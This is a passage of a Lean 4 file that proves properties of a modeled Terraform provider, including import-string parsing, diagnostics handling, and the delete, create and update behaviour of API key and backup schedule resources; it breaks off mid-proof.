    (hk1 : ',' ∉ k) (hk2 : '=' ∉ k) (hv1 : ',' ∉ v) (hv2 : '=' ∉ v) :
    parseImportString (String.mk (k ++ '=' :: v ++ ',' :: rest))
      = (String.mk k, String.mk v) :: parseImportString (String.mk rest) := by
  have hseg : ',' ∉ k ++ '=' :: v := by
    simp only [List.mem_append, List.mem_cons, not_or]
    exact ⟨hk1, by decide, hv1⟩
  have happ : k ++ '=' :: v ++ ',' :: rest = (k ++ '=' :: v) ++ ',' :: rest := by simp
  unfold parseImportString
  simp only []
  rw [happ, strings.Split_append ',' _ rest hseg, List.filterMap_cons,
    strings.Split_append '=' k v hk2, strings.Split_of_not_mem '=' v hv2]

/-- The last pair of a composite identifier. -/
theorem parseImportString_last (k v : List Char)
    (hk1 : ',' ∉ k) (hk2 : '=' ∉ k) (hv1 : ',' ∉ v) (hv2 : '=' ∉ v) :
    parseImportString (String.mk (k ++ '=' :: v)) = [(String.mk k, String.mk v)] := by
  have hseg : ',' ∉ k ++ '=' :: v := by
    simp only [List.mem_append, List.mem_cons, not_or]
    exact ⟨hk1, by decide, hv1⟩
  unfold parseImportString
  simp only []
  rw [strings.Split_of_not_mem ',' _ hseg, List.filterMap_cons,
    strings.Split_append '=' k v hk2, strings.Split_of_not_mem '=' v hv2]
  rfl

/-- The pairs of a composite identifier of a network peer. -/
theorem parseImportString_network_peer (A B C D : String)
    (hA : ',' ∉ A.data ∧ '=' ∉ A.data) (hB : ',' ∉ B.data ∧ '=' ∉ B.data)
    (hC : ',' ∉ C.data ∧ '=' ∉ C.data) (hD : ',' ∉ D.data ∧ '=' ∉ D.data) :
    parseImportString ("id=" ++ A ++ ",cluster_id=" ++ B ++ ",project_id=" ++ C
        ++ ",organization_id=" ++ D)
      = [("id", A), ("cluster_id", B), ("project_id", C), ("organization_id", D)] := by
  have hs : "id=" ++ A ++ ",cluster_id=" ++ B ++ ",project_id=" ++ C ++ ",organization_id=" ++ D
      = String.mk ("id".data ++ '=' :: A.data ++ ',' ::
          ("cluster_id".data ++ '=' :: B.data ++ ',' ::
            ("project_id".data ++ '=' :: C.data ++ ',' ::
              ("organization_id".data ++ '=' :: D.data)))) := by
    apply String.ext
    simp [String.data_append]
  rw [hs, parseImportString_cons _ _ _ (by decide) (by decide) hA.1 hA.2,
    parseImportString_cons _ _ _ (by decide) (by decide) hB.1 hB.2,
    parseImportString_cons _ _ _ (by decide) (by decide) hC.1 hC.2,
    parseImportString_last _ _ (by decide) (by decide) hD.1 hD.2]


/-- The characters of a segment are characters of the text. -/
theorem mem_of_mem_Split (sep : Char) (l : List Char) :
    ∀ segment ∈ strings.Split sep l, ∀ c ∈ segment, c ∈ l := by
  induction l with
  | nil =>
    intro segment hseg c hc
    simp only [strings.Split, List.mem_singleton] at hseg
    rw [hseg] at hc
    exact hc
  | cons x xs ih =>
    intro segment hseg c hc
    by_cases hx : x = sep
    · simp only [strings.Split, hx, if_true, List.mem_cons] at hseg
      rcases hseg with rfl | hseg
      · simp at hc
      · exact List.mem_cons_of_mem _ (ih segment hseg c hc)
    · simp only [strings.Split, hx, if_false] at hseg
      cases hsplit : strings.Split sep xs with
      | nil =>
        rw [hsplit] at hseg
        simp only [List.mem_singleton] at hseg
        rw [hseg] at hc
        simp only [List.mem_singleton] at hc
        rw [hc]
        exact List.mem_cons_self _ _
      | cons first others =>
        rw [hsplit] at hseg
        simp only [List.mem_cons] at hseg
        rcases hseg with rfl | hseg
        · rcases List.mem_cons.mp hc with rfl | hc2
          · exact List.mem_cons_self _ _
          · exact List.mem_cons_of_mem _ (ih first (by rw [hsplit]; exact List.mem_cons_self _ _)
              c hc2)
        · exact List.mem_cons_of_mem _
            (ih segment (by rw [hsplit]; exact List.mem_cons_of_mem _ hseg) c hc)

/-- A plain value, without `=`, holds no key=value pair. -/
theorem parseImportString_plain (v : String) (hplain : '=' ∉ v.data) :
    parseImportString v = [] := by
  unfold parseImportString
  rw [List.filterMap_eq_nil_iff]
  intro segment hseg
  have hno : '=' ∉ segment := fun hc => hplain (mem_of_mem_Split ',' v.data segment hseg _ hc)
  rw [strings.Split_of_not_mem '=' segment hno]

/-- `validateSchemaState` on a state that is not fully set and whose composite
identifier lacks a required key. -/
theorem validateSchemaState_missing_key (ErrInvalidImport : GoError)
    (state : List (Attr × StringValue)) (entry : Attr × StringValue)
    (hunset : state.all (fun entry => !entry.2.IsNull && !entry.2.IsUnknown) = false)
    (hentry : entry ∈ state)
    (hmissing : (parseImportString
      (ValueString ((state.lookup providerschema.Id).getD Value.null))).lookup entry.1 = none) :
    ∃ missing, validateSchemaState ErrInvalidImport state
      = .error (.wrapError (ErrInvalidImport.Error ++ ": " ++ missing ++ " is missing")
          ErrInvalidImport) := by
  unfold validateSchemaState
  rw [hunset]
  simp only [Bool.false_eq_true, if_false]
  cases hfind : state.find? (fun entry => ((parseImportString
      (ValueString ((state.lookup providerschema.Id).getD Value.null))).lookup entry.1).isNone) with
  | some missing => exact ⟨missing.1, rfl⟩
  | none =>
    have h := List.find?_eq_none.mp hfind entry hentry
    rw [hmissing] at h
    simp at h

/-- C16: a network peer whose `Id` is the import string
`id=A,cluster_id=B,project_id=C,organization_id=D` (the four values free of `,`
and `=`) and whose other identifiers are unset validates without error, and the
map returned holds `A`, `B`, `C` and `D` under the four keys. -/
theorem NetworkPeer_Validate_import_string (errs : api.InternalErrors)
    (ErrInvalidImport : GoError) (A B C D : String)
    (hA : ',' ∉ A.data ∧ '=' ∉ A.data) (hB : ',' ∉ B.data ∧ '=' ∉ B.data)
    (hC : ',' ∉ C.data ∧ '=' ∉ C.data) (hD : ',' ∉ D.data ∧ '=' ∉ D.data) :
    ∃ IDs, NetworkPeer.Validate errs ErrInvalidImport
          ⟨.known ("id=" ++ A ++ ",cluster_id=" ++ B ++ ",project_id=" ++ C
            ++ ",organization_id=" ++ D), .null, .null, .null⟩ = .ok IDs
      ∧ IDs providerschema.Id = A ∧ IDs providerschema.ClusterId = B
      ∧ IDs providerschema.ProjectId = C ∧ IDs providerschema.OrganizationId = D := by
  have hparse := parseImportString_network_peer A B C D hA hB hC hD
  refine ⟨fun key => (List.lookup key
    [("id", A), ("cluster_id", B), ("project_id", C), ("organization_id", D)]).getD "",
    ?_, rfl, rfl, rfl, rfl⟩
  unfold NetworkPeer.Validate validateSchemaState
  simp only [List.all_cons, Value.IsNull, Value.IsUnknown]
  have hid : (List.lookup providerschema.Id
      [(providerschema.OrganizationId, (Value.null : StringValue)),
        (providerschema.ProjectId, Value.null), (providerschema.ClusterId, Value.null),
        (providerschema.Id, Value.known ("id=" ++ A ++ ",cluster_id=" ++ B ++ ",project_id=" ++ C
          ++ ",organization_id=" ++ D))]).getD Value.null
      = Value.known ("id=" ++ A ++ ",cluster_id=" ++ B ++ ",project_id=" ++ C
          ++ ",organization_id=" ++ D) := rfl
  simp only [hid, ValueString, hparse]
  rfl

/-- C16, on the import string of the test: `100`, `200`, `300`, `400`. -/
theorem NetworkPeer_Validate_import_string_witness :
    ∃ IDs, NetworkPeer.Validate demo.errs demo.ErrInvalidImport
          ⟨.known ("id=" ++ "100" ++ ",cluster_id=" ++ "200" ++ ",project_id=" ++ "300"
            ++ ",organization_id=" ++ "400"), .null, .null, .null⟩ = .ok IDs
      ∧ IDs providerschema.Id = "100" ∧ IDs providerschema.ClusterId = "200"
      ∧ IDs providerschema.ProjectId = "300" ∧ IDs providerschema.OrganizationId = "400" :=
  NetworkPeer_Validate_import_string demo.errs demo.ErrInvalidImport "100" "200" "300" "400"
    (by decide) (by decide) (by decide) (by decide)

/-- C17: a network peer whose `Id` is a plain value, without key=value pairs,
and whose parent identifiers are unset does not validate: the error text
contains the text of `ErrInvalidImport` and no map is returned. The same holds
for every network peer with unset parent identifiers whose composite identifier
lacks one of the four required keys. -/
theorem NetworkPeer_Validate_invalid_import (errs : api.InternalErrors)
    (ErrInvalidImport : GoError) (v : String) (hplain : '=' ∉ v.data)
    (n : NetworkPeer) (key : Attr)
    (hunset : n.ClusterId = .null ∧ n.ProjectId = .null ∧ n.OrganizationId = .null)
    (hkey : key = providerschema.OrganizationId ∨ key = providerschema.ProjectId
      ∨ key = providerschema.ClusterId ∨ key = providerschema.Id)
    (hmissing : (parseImportString (ValueString n.Id)).lookup key = none) :
    (∃ err before after, NetworkPeer.Validate errs ErrInvalidImport
          ⟨.known v, .null, .null, .null⟩ = .error err
        ∧ err.Error = before ++ ErrInvalidImport.Error ++ after)
      ∧ ∃ err before after, NetworkPeer.Validate errs ErrInvalidImport n = .error err
        ∧ err.Error = before ++ ErrInvalidImport.Error ++ after := by
  have hgeneral : ∀ (m : NetworkPeer) (k : Attr),
      m.ClusterId = .null ∧ m.ProjectId = .null ∧ m.OrganizationId = .null →
      (k = providerschema.OrganizationId ∨ k = providerschema.ProjectId
        ∨ k = providerschema.ClusterId ∨ k = providerschema.Id) →
      (parseImportString (ValueString m.Id)).lookup k = none →
      ∃ err before after, NetworkPeer.Validate errs ErrInvalidImport m = .error err
        ∧ err.Error = before ++ ErrInvalidImport.Error ++ after := by
    intro m k hm hk hmiss
    obtain ⟨hc, hp, ho⟩ := hm
    have hlookup : (List.lookup providerschema.Id
        [(providerschema.OrganizationId, m.OrganizationId),
          (providerschema.ProjectId, m.ProjectId), (providerschema.ClusterId, m.ClusterId),
          (providerschema.Id, m.Id)]).getD Value.null = m.Id := by
      have h1 : (providerschema.Id == providerschema.OrganizationId) = false := by decide
      have h2 : (providerschema.Id == providerschema.ProjectId) = false := by decide
      have h3 : (providerschema.Id == providerschema.ClusterId) = false := by decide
      have h4 : (providerschema.Id == providerschema.Id) = true := by decide
      simp [List.lookup, h1, h2, h3, h4]
    obtain ⟨missing, hmissingErr⟩ := validateSchemaState_missing_key ErrInvalidImport
      [(providerschema.OrganizationId, m.OrganizationId),
        (providerschema.ProjectId, m.ProjectId), (providerschema.ClusterId, m.ClusterId),
        (providerschema.Id, m.Id)]
      (k, if k = providerschema.OrganizationId then m.OrganizationId
        else if k = providerschema.ProjectId then m.ProjectId
        else if k = providerschema.ClusterId then m.ClusterId else m.Id)
      (by simp [ho, Value.IsNull])
      (by
        rcases hk with rfl | rfl | rfl | rfl
        · simp
        · have : ¬ providerschema.ProjectId = providerschema.OrganizationId := by decide
          simp [this]
        · have h1 : ¬ providerschema.ClusterId = providerschema.OrganizationId := by decide
          have h2 : ¬ providerschema.ClusterId = providerschema.ProjectId := by decide
          simp [h1, h2]
        · have h1 : ¬ providerschema.Id = providerschema.OrganizationId := by decide
          have h2 : ¬ providerschema.Id = providerschema.ProjectId := by decide
          have h3 : ¬ providerschema.Id = providerschema.ClusterId := by decide
          simp [h1, h2, h3])
      (by rw [hlookup]; exact hmiss)
    refine ⟨fmt.Errorf_s_w errs.ErrValidatingResource
      (.wrapError (ErrInvalidImport.Error ++ ": " ++ missing ++ " is missing") ErrInvalidImport),
      errs.ErrValidatingResource.Error ++ ": ", ": " ++ missing ++ " is missing", ?_, ?_⟩
    · unfold NetworkPeer.Validate
      simp only [hmissingErr]
    · simp [fmt.Errorf_s_w, GoError.Error, String.append_assoc]
  refine ⟨hgeneral ⟨.known v, .null, .null, .null⟩ providerschema.Id ⟨rfl, rfl, rfl⟩
    (Or.inr (Or.inr (Or.inr rfl))) ?_, hgeneral n key hunset hkey hmissing⟩
  simp only [ValueString]
  rw [parseImportString_plain v hplain]
  rfl

/-- C17, on the plain identifier `100` of the test and on a composite
identifier without `organization_id`. -/
theorem NetworkPeer_Validate_invalid_import_witness :
    (∃ err before after, NetworkPeer.Validate demo.errs demo.ErrInvalidImport
          ⟨.known "100", .null, .null, .null⟩ = .error err
        ∧ err.Error = before ++ "invalid import" ++ after)
      ∧ ∃ err before after, NetworkPeer.Validate demo.errs demo.ErrInvalidImport
          ⟨.known "id=100,cluster_id=200,project_id=300", .null, .null, .null⟩ = .error err
        ∧ err.Error = before ++ "invalid import" ++ after :=
  NetworkPeer_Validate_invalid_import demo.errs demo.ErrInvalidImport "100" (by decide)
    ⟨.known "id=100,cluster_id=200,project_id=300", .null, .null, .null⟩
    providerschema.OrganizationId ⟨rfl, rfl, rfl⟩ (Or.inl rfl) (by decide)

end providerschema

/-! ### Diagnostics -/

namespace diag

/-- Appended diagnostics have an error exactly when one of the two lists has. -/
theorem HasError_Append (new : Diagnostics) :
    ∀ diags : Diagnostics, HasError (Append diags new) = (HasError diags || HasError new) := by
  induction new with
  | nil => intro diags; simp [Append, HasError]
  | cons d rest ih =>
    intro diags
    have hstep : Append diags (d :: rest)
        = Append (if d ∈ diags then diags else diags ++ [d]) rest := rfl
    rw [hstep, ih]
    by_cases hd : d ∈ diags
    · have hsev : decide (d.Severity = Severity.Error) = true → HasError diags = true := by
        intro h
        simp only [HasError, List.any_eq_true]
        exact ⟨d, hd, h⟩
      simp only [hd, if_true]
      cases hE : decide (d.Severity = Severity.Error)
      · simp [HasError, hE]
      · rw [hsev hE]
        simp
    · simp only [hd, if_false]
      simp [HasError, Bool.or_assoc]

/-- The diagnostics there before are still there after `Append`. -/
theorem mem_Append_left (new : Diagnostics) :
    ∀ (diags : Diagnostics) (d : Diagnostic), d ∈ diags → d ∈ Append diags new := by
  induction new with
  | nil => intro diags d h; exact h
  | cons x rest ih =>
    intro diags d h
    have hstep : Append diags (x :: rest)
        = Append (if x ∈ diags then diags else diags ++ [x]) rest := rfl
    rw [hstep]
    apply ih
    by_cases hx : x ∈ diags
    · simp only [hx, if_true]; exact h
    · simp only [hx, if_false]; exact List.mem_append_left _ h

/-- A diagnostic added with `Append` is there afterwards. -/
theorem mem_Append_singleton (diags : Diagnostics) (d : Diagnostic) : d ∈ Append diags [d] := by
  by_cases hd : d ∈ diags
  · simp [Append, hd]
  · simp [Append, hd]

/-- `AddWarning` adds no error. -/
theorem HasError_AddWarning (diags : Diagnostics) (summary detail : String) :
    HasError (AddWarning diags summary detail) = HasError diags := by
  rw [AddWarning, HasError_Append]
  simp [HasError]

end diag

/-! ### `Delete` -/

namespace resources

open basetypes

/-- `ApiKey.Delete` once the DELETE request has failed. -/
theorem ApiKey.Delete_after_failed_request {σ P R A : Type} (deps : Deps R A)
    (a : providerschema.Data σ P) (req : resource.DeleteRequest R)
    (resp : resource.DeleteResponse R) (s s1 : σ) (ids : providerschema.Attr → String)
    (err : GoError)
    (hdiags : diag.HasError (diag.Append resp.Diagnostics (req.State.Get deps.codec).2) = false)
    (hvalid : (req.State.Get deps.codec).1.Validate deps.errs deps.schema = .ok ids)
    (hfail : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/" ++ ids providerschema.OrganizationId
        ++ "/apikeys/" ++ ids providerschema.Id, "DELETE", 204⟩, none, a.Token, none⟩ s
      = (.error err, s1)) :
    ApiKey.Delete deps a req resp s
      = (if (deps.CheckResourceNotFoundError err).1 then
          { State := ⟨none⟩,
            Diagnostics := diag.Append resp.Diagnostics (req.State.Get deps.codec).2 }
        else
          { State := resp.State,
            Diagnostics := diag.AddError
              (diag.Append resp.Diagnostics (req.State.Get deps.codec).2)
              "Error deleting api key"
              ("Could not delete api key id "
                ++ (req.State.Get deps.codec).1.Id.String deps.Quote ++ " unexpected error: "
                ++ (deps.CheckResourceNotFoundError err).2) }, s1) := by
  unfold ApiKey.Delete
  simp only [hdiags, hvalid, http.MethodDelete, http.StatusNoContent, hfail, Bool.false_eq_true,
    if_false]
  by_cases hnf : (deps.CheckResourceNotFoundError err).1 = true
  · simp [hnf, tfsdk.State.RemoveResource]
  · simp [hnf]

/-- `BackupSchedule.Delete` once the DELETE request has failed. -/
theorem BackupSchedule.Delete_after_failed_call {σ P R B X : Type}
    (deps : BackupScheduleDeps R B X) (b : providerschema.Data σ P)
    (req : resource.DeleteRequest R) (resp : resource.DeleteResponse R)
    (s s1 : σ) (ids : providerschema.Attr → String) (err : GoError)
    (hdiags : diag.HasError (diag.Append resp.Diagnostics (req.State.Get deps.codec).2) = false)
    (hvalid : deps.Validate (req.State.Get deps.codec).1 = .ok ids)
    (hfail : b.Client ⟨⟨b.HostURL ++ "/v4/organizations/" ++ ids providerschema.OrganizationId
        ++ "/projects/" ++ ids providerschema.ProjectId ++ "/clusters/"
        ++ ids providerschema.ClusterId ++ "/buckets/" ++ ids providerschema.BucketId
        ++ "/backup/schedules", "DELETE", 202⟩, none, b.Token, none⟩ s = (.error err, s1)) :
    BackupSchedule.Delete deps b req resp s
      = (if (deps.CheckResourceNotFoundError err).1 then
          { State := ⟨none⟩,
            Diagnostics := diag.Append resp.Diagnostics (req.State.Get deps.codec).2 }
        else
          { State := resp.State,
            Diagnostics := diag.AddError
              (diag.Append resp.Diagnostics (req.State.Get deps.codec).2)
              "Error deleting backup schedule"
              ("Could not delete backup schedule with bucket id "
                ++ (deps.BucketId (req.State.Get deps.codec).1).String deps.Quote
                ++ " unexpected error: " ++ (deps.CheckResourceNotFoundError err).2) }, s1) := by
  unfold BackupSchedule.Delete
  simp only [hdiags, hvalid, http.MethodDelete, http.StatusAccepted, hfail, Bool.false_eq_true,
    if_false]
  by_cases hnf : (deps.CheckResourceNotFoundError err).1 = true
  · simp [hnf, tfsdk.State.RemoveResource]
  · simp [hnf]

/-- C11: once `ApiKey.Delete`, respectively `BackupSchedule.Delete`, has sent its
DELETE request and the request has failed with `err`: if
`CheckResourceNotFoundError` classifies `err` as not-found, the operation ends
with the diagnostics it had after reading the state, none of them an error
(and with the resource removed from the state); otherwise the diagnostics end
with a new error diagnostic. -/
theorem Delete_on_request_failure {σ P R A τ Q R2 B X : Type}
    (deps : Deps R A) (a : providerschema.Data σ P)
    (req : resource.DeleteRequest R) (resp : resource.DeleteResponse R)
    (s s1 : σ) (ids : providerschema.Attr → String) (err : GoError)
    (hdiags : diag.HasError (diag.Append resp.Diagnostics (req.State.Get deps.codec).2) = false)
    (hvalid : (req.State.Get deps.codec).1.Validate deps.errs deps.schema = .ok ids)
    (hfail : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/" ++ ids providerschema.OrganizationId
        ++ "/apikeys/" ++ ids providerschema.Id, "DELETE", 204⟩, none, a.Token, none⟩ s
      = (.error err, s1))
    (bdeps : BackupScheduleDeps R2 B X) (b : providerschema.Data τ Q)
    (breq : resource.DeleteRequest R2) (bresp : resource.DeleteResponse R2)
    (t t1 : τ) (bids : providerschema.Attr → String) (berr : GoError)
    (hbdiags : diag.HasError
      (diag.Append bresp.Diagnostics (breq.State.Get bdeps.codec).2) = false)
    (hbvalid : bdeps.Validate (breq.State.Get bdeps.codec).1 = .ok bids)
    (hbfail : b.Client ⟨⟨b.HostURL ++ "/v4/organizations/" ++ bids providerschema.OrganizationId
        ++ "/projects/" ++ bids providerschema.ProjectId ++ "/clusters/"
        ++ bids providerschema.ClusterId ++ "/buckets/" ++ bids providerschema.BucketId
        ++ "/backup/schedules", "DELETE", 202⟩, none, b.Token, none⟩ t = (.error berr, t1)) :
    (∃ out, ApiKey.Delete deps a req resp s = (out, s1) ∧
        if (deps.CheckResourceNotFoundError err).1 then
          out.Diagnostics = diag.Append resp.Diagnostics (req.State.Get deps.codec).2
            ∧ diag.HasError out.Diagnostics = false
            ∧ out.State.Raw = none
        else
          (∃ detail, out.Diagnostics
              = diag.Append resp.Diagnostics (req.State.Get deps.codec).2
                ++ [⟨diag.Severity.Error, "Error deleting api key", detail, none⟩])
            ∧ diag.HasError out.Diagnostics = true)
      ∧ (∃ out, BackupSchedule.Delete bdeps b breq bresp t = (out, t1) ∧
        if (bdeps.CheckResourceNotFoundError berr).1 then
          out.Diagnostics = diag.Append bresp.Diagnostics (breq.State.Get bdeps.codec).2
            ∧ diag.HasError out.Diagnostics = false
            ∧ out.State.Raw = none
        else
          (∃ detail, out.Diagnostics
              = diag.Append bresp.Diagnostics (breq.State.Get bdeps.codec).2
                ++ [⟨diag.Severity.Error, "Error deleting backup schedule", detail, none⟩])
            ∧ diag.HasError out.Diagnostics = true) := by
  have hdel := ApiKey.Delete_after_failed_request deps a req resp s s1 ids err hdiags hvalid
    hfail
  have hbdel := BackupSchedule.Delete_after_failed_call bdeps b breq bresp t t1 bids berr
    hbdiags hbvalid hbfail
  constructor
  · by_cases hnf : (deps.CheckResourceNotFoundError err).1 = true
    · rw [if_pos hnf] at hdel
      exact ⟨_, hdel, by rw [if_pos hnf]; exact ⟨rfl, hdiags, rfl⟩⟩
    · rw [if_neg hnf, diag.AddError_of_no_error _ _ _ hdiags] at hdel
      exact ⟨_, hdel, by
        rw [if_neg hnf]; exact ⟨⟨_, rfl⟩, diag.HasError_append_error _ _ _⟩⟩
  · by_cases hnf : (bdeps.CheckResourceNotFoundError berr).1 = true
    · rw [if_pos hnf] at hbdel
      exact ⟨_, hbdel, by rw [if_pos hnf]; exact ⟨rfl, hbdiags, rfl⟩⟩
    · rw [if_neg hnf, diag.AddError_of_no_error _ _ _ hbdiags] at hbdel
      exact ⟨_, hbdel, by
        rw [if_neg hnf]; exact ⟨⟨_, rfl⟩, diag.HasError_append_error _ _ _⟩⟩

/-- C11, on the scripted service: deleting an api key the service no longer
knows ends without a diagnostic; deleting a backup schedule while the service
is down reports an error. -/
theorem Delete_on_request_failure_witness :
    (∃ out, ApiKey.Delete demo.deps demo.data ⟨⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
          [.error demo.notFound] = (out, []) ∧
        out.Diagnostics = [] ∧ diag.HasError out.Diagnostics = false ∧ out.State.Raw = none)
      ∧ (∃ out, BackupSchedule.Delete demo.backupDeps demo.data ⟨⟨some demo.backupSchedule⟩⟩
          ⟨⟨some demo.backupSchedule⟩, []⟩ [.error demo.unavailable] = (out, []) ∧
        (∃ detail, out.Diagnostics
            = [⟨diag.Severity.Error, "Error deleting backup schedule", detail, none⟩])
          ∧ diag.HasError out.Diagnostics = true) :=
  Delete_on_request_failure demo.deps demo.data ⟨⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
    [.error demo.notFound] []
    (fun key => basetypes.ValueString
      ((List.lookup key [(providerschema.OrganizationId, demo.apiKey.OrganizationId),
        (providerschema.Id, demo.apiKey.Id)]).getD .null))
    demo.notFound rfl rfl rfl
    demo.backupDeps demo.data ⟨⟨some demo.backupSchedule⟩⟩ ⟨⟨some demo.backupSchedule⟩, []⟩
    [.error demo.unavailable] []
    (fun key =>
      if key = providerschema.OrganizationId then "org-1"
      else if key = providerschema.ProjectId then "proj-1"
      else if key = providerschema.ClusterId then "cluster-1"
      else if key = providerschema.BucketId then "bucket-1"
      else "")
    demo.unavailable rfl rfl rfl

/-! ### Evaluations of `BackupSchedule.Read`, `Create`, `Update` and `ApiKey.Update` -/

/-- C15 (evaluated on the code): when reading the attribute `weekly_schedule`
reports an error diagnostic, `BackupSchedule.Read` returns without any
diagnostic, and so do `Create` and `Update` when the attribute was filled in
all the same: the error is dropped. -/
theorem BackupSchedule_drops_attribute_diagnostics :
    (∃ out s, BackupSchedule.Read demo.backupDepsAttrError demo.data
          ⟨⟨some demo.backupSchedule⟩⟩ ⟨⟨some demo.backupSchedule⟩, []⟩ [.ok ⟨[1]⟩]
          = (.returned out, s)
        ∧ demo.attributeError ∉ out.Diagnostics ∧ diag.HasError out.Diagnostics = false)
      ∧ (∃ out s, BackupSchedule.Create demo.backupWriteDepsAttrError demo.dataAny
          ⟨⟨none⟩, ⟨some demo.backupSchedule⟩⟩ ⟨⟨none⟩, []⟩ [.ok ⟨[]⟩, .ok ⟨[1]⟩]
          = (.returned out, s)
        ∧ demo.attributeError ∉ out.Diagnostics ∧ diag.HasError out.Diagnostics = false)
      ∧ (∃ out s, BackupSchedule.Update demo.backupWriteDepsAttrError demo.dataAny
          ⟨⟨none⟩, ⟨some demo.backupSchedule⟩, ⟨some demo.backupSchedule⟩⟩
          ⟨⟨some demo.backupSchedule⟩, []⟩ [.ok ⟨[]⟩, .ok ⟨[1]⟩] = (.returned out, s)
        ∧ demo.attributeError ∉ out.Diagnostics ∧ diag.HasError out.Diagnostics = false) :=
  ⟨⟨_, _, rfl, by decide, by decide⟩, ⟨_, _, rfl, by decide, by decide⟩,
    ⟨_, _, rfl, by decide, by decide⟩⟩

/-- C20 (evaluated on the code): for a plan whose `secret` is unknown,
`ApiKey.Update` sends a rotate request that does carry a `Secret`, the empty
string. -/
theorem ApiKey_Update_sends_empty_secret_when_unknown :
    demo.rotatePlan.Secret = .unknown
      ∧ ((ApiKey.Update demo.writeDeps demo.dataAny.logged
            ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
            ([.ok ⟨[1]⟩, .ok ⟨[1]⟩], [])).2.2.map
          (fun inv => match inv.call.payload with
            | some (.RotateApiKeyRequest request) => some (inv.call.cfg.Method, request)
            | _ => none))
        = [some ("POST", { Secret := some "" }), none] := by
  exact ⟨rfl, rfl⟩

/-- C14 (the claim as stated fails): when the rotate POST of `ApiKey.Update`
fails with a not-found error, the response has no error diagnostic and the
resource is removed from the state. -/
theorem ApiKey_Update_removes_state_on_not_found :
    ((ApiKey.Update demo.writeDeps demo.dataAny.logged
          ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
          ([.error demo.notFound], [])).2.2.map
        (fun inv => (inv.call.cfg, match inv.result with
          | .error err => some err
          | .ok _ => none)))
        = [(⟨"https://h/v4/organizations/org-1/apikeys/key-1/rotate", "POST", 201⟩,
            some demo.notFound)]
      ∧ diag.HasError (ApiKey.Update demo.writeDeps demo.dataAny.logged
          ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
          ([.error demo.notFound], [])).1.Diagnostics = false
      ∧ (ApiKey.Update demo.writeDeps demo.dataAny.logged
          ⟨⟨none⟩, ⟨some demo.rotatePlan⟩, ⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
          ([.error demo.notFound], [])).1.State.Raw = none := by
  exact ⟨rfl, rfl, rfl⟩

end resources

/-! ### `Create` -/

namespace resources

open basetypes

/-- The id of the state written before the re-fetch is the id just returned. -/
theorem initializeApiKeyWithPlanAndId_Id (plan : providerschema.ApiKey) (id : String) :
    (initializeApiKeyWithPlanAndId plan id).Id = Value.known id := by
  unfold initializeApiKeyWithPlanAndId
  simp only []
  split <;> split <;> rfl

/-- `ApiKey.Create` once the api key is created and the re-fetch has failed. -/
theorem ApiKey.Create_after_failed_retrieve {σ R A : Type} (deps : WriteDeps R A)
    (a : providerschema.Data σ api.Payload) (req : resource.CreateRequest R)
    (resp : resource.CreateResponse R) (s s1 s2 : σ) (plan : providerschema.ApiKey)
    (planDiags : diag.Diagnostics) (convertedResources : Slice api.ResourcesItems)
    (response : api.Response) (apiKeyResponse : api.CreateApiKeyResponse) (err : GoError)
    (hget : req.Plan.Get deps.codec = (plan, planDiags))
    (hdiags : diag.HasError (diag.Append resp.Diagnostics planDiags) = false)
    (hvalid : ApiKey.validateCreateApiKeyRequest deps plan = none)
    (hres : ApiKey.convertResources deps plan.Resources = (convertedResources, none))
    (hcidrs : (!plan.AllowedCIDRs.IsNull && !plan.AllowedCIDRs.IsUnknown) = true →
      (ApiKey.convertAllowedCidrs deps plan.AllowedCIDRs).2 = none)
    (hreq : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/"
        ++ ValueString plan.OrganizationId ++ "/apikeys", "POST", 201⟩,
        some (ApiKey.createBody deps plan convertedResources), a.Token, none⟩ s
      = (.ok response, s1))
    (hdec : deps.UnmarshalCreate response.Body = .ok apiKeyResponse)
    (hset : diag.HasError
      (deps.codec.encode (initializeApiKeyWithPlanAndId plan apiKeyResponse.Id)).2 = false)
    (hretr : ApiKey.retrieveApiKey deps.toDeps a (ValueString plan.OrganizationId)
      apiKeyResponse.Id s1 = (.error err, s2)) :
    ApiKey.Create deps a req resp s
      = ({ State := ⟨(deps.codec.encode
              (initializeApiKeyWithPlanAndId plan apiKeyResponse.Id)).1⟩,
           Diagnostics := diag.AddWarning
            (diag.Append (diag.Append resp.Diagnostics planDiags)
              (deps.codec.encode (initializeApiKeyWithPlanAndId plan apiKeyResponse.Id)).2)
            "Error creating ApiKey"
            (errorMessageAfterApiKeyCreation ++ deps.ParseError err) }, s2) := by
  have hboth : diag.HasError (diag.Append (diag.Append resp.Diagnostics planDiags)
      (deps.codec.encode (initializeApiKeyWithPlanAndId plan apiKeyResponse.Id)).2) = false := by
    rw [diag.HasError_Append, hdiags, hset]; rfl
  unfold ApiKey.createBody at hreq
  unfold ApiKey.Create
  simp only [hget, hdiags, hvalid, hres, http.MethodPost, http.StatusCreated,
    tfsdk.State.Set, Bool.false_eq_true, if_false]
  by_cases hguard : (!plan.AllowedCIDRs.IsNull && !plan.AllowedCIDRs.IsUnknown) = true
  · have h2 := hcidrs hguard
    rcases hc : ApiKey.convertAllowedCidrs deps plan.AllowedCIDRs with ⟨converted, cerr⟩
    rw [hc] at h2
    simp only at h2
    subst h2
    rw [hc] at hreq
    simp only [hguard, if_true] at hreq ⊢
    cases hD : plan.Description <;> cases hE : plan.Expiry <;>
      simp only [hD, hE, Value.IsNull, Value.IsUnknown, Bool.not_true, Bool.not_false,
        Bool.and_self, Bool.and_false, Bool.false_and, Bool.false_eq_true, if_true, if_false]
        at hreq ⊢ <;>
      simp only [hreq, hdec, hset, hboth, hretr, Bool.false_eq_true, if_false]
  · simp only [hguard, if_false] at hreq ⊢
    cases hD : plan.Description <;> cases hE : plan.Expiry <;>
      simp only [hD, hE, Value.IsNull, Value.IsUnknown, Bool.not_true, Bool.not_false,
        Bool.and_self, Bool.and_false, Bool.false_and, Bool.false_eq_true, if_true, if_false]
        at hreq ⊢ <;>
